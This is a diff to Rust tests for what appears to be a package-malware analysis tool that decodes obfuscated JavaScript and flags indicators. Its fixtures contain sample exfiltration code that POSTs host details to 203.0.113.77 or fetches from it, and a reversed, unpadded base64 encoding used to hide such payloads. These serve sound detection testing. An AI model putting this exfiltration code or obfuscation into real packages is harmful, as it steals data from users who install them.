@@ -8,7 +8,7 @@ use cerebro::behavior::{Reading, Vocabulary};
 use cerebro::case::Case;
 use cerebro::package::{Ecosystem, Entry, File, Package, Phase, Target};
 use cerebro::syntax::decode::to_base64;
-use cerebro::syntax::{Doc, Layer};
+use cerebro::syntax::{DecodedBy, Doc, Layer};
 use cerebro::text::Span;
 use cerebro::tui::app::viewer::Selection;
 use cerebro::tui::app::{Pane, State};
@@ -27,7 +27,12 @@ const MINIFIED: &str = "const os=require('os');function a(b){return{host:os.host
                         if(process.env.CI){a(1)}else{fetch('http://203.0.113.77/in',{method:'POST',body:JSON.stringify(a(2))})}";
 
 fn encoded() -> String {
-    to_base64(HIDDEN.as_bytes()).chars().rev().collect()
+    turned(HIDDEN.as_bytes())
+}
+
+/// Base64 back to front and without padding, which nothing decodes unasked.
+fn turned(bytes: &[u8]) -> String {
+    to_base64(bytes).trim_end_matches('=').chars().rev().collect()
 }
 
 fn package() -> Package {
@@ -35,7 +40,7 @@ fn package() -> Package {
     let index = format!(
         "// three strings\nconst one = '{}';\nconst two = '{}';\nconst three = '{}';\nmodule.exports = one + two;\n",
         encoded(),
-        to_base64(PROGRAM),
+        turned(PROGRAM),
         to_base64(&xored),
     );
     let mut package = case::package_of(vec![
@@ -68,7 +73,7 @@ fn on(row: usize, width: u16, height: u16) -> Bench {
 }
 
 fn layers(state: &State) -> Vec<Layer> {
-    state.docs.sequence().layers.iter().filter(|layer| layer.by_hand).cloned().collect()
+    state.docs.sequence().layers.iter().filter(|layer| layer.by_hand()).cloned().collect()
 }
 
 fn shown(state: &State) -> String {
@@ -153,6 +158,28 @@ fn a_binary_result_is_shown_as_bytes_and_kept() {
     bench.shows("0x2 of 29 bytes");
     // The bytes are decoded on like any others.
     bench.keys("X").shows("from byte 0").keys("esc x").shows("no text; they are shown as they are");
+}
+
+#[test]
+fn an_encoded_literal_is_a_layer_without_being_asked_for() {
+    let mut package = package();
+    let text = format!("const parts = ['{}'];\n", to_base64(HIDDEN.as_bytes()));
+    package.files[0] = case::file("package/index.js", &text);
+    let mut bench = Bench::open(120, 40, Given::new(package));
+    bench.settle();
+    bench.keys("1 g j enter").shows("↳ literal › base64").shows("http.get('http://203.0.113.77/take');");
+    let state = &bench.bench.state;
+    let layer = &state.docs.sequence().layers[0];
+    assert_eq!((layer.by, state.viewer.doc), (DecodedBy::Literal, Some(Doc::Layer(0))));
+    let case = state.case.clone().unwrap();
+    let take = case.indicators.iter().find(|i| i.value.contains("203.0.113.77/take")).unwrap();
+    assert_eq!(take.places[0].doc, Doc::Layer(0), "its address is an indicator, with its place");
+    bench.keys("i").shows("Decoded here, not by the program's own call").shows("literal › base64").keys("esc 1");
+    bench.delete().shows("is a string literal that was decoded as the package was read; only those decoded by hand");
+    bench.keys("S").text("in:layers http.get").keys("enter").shows("1 match");
+    // By hand it comes to the same layer.
+    bench.keys("esc esc 1 g 2 g X").shows("parses as Java").keys("enter").shows("This layer was there already");
+    assert!(layers(&bench.bench.state).is_empty());
 }
 
 #[test]
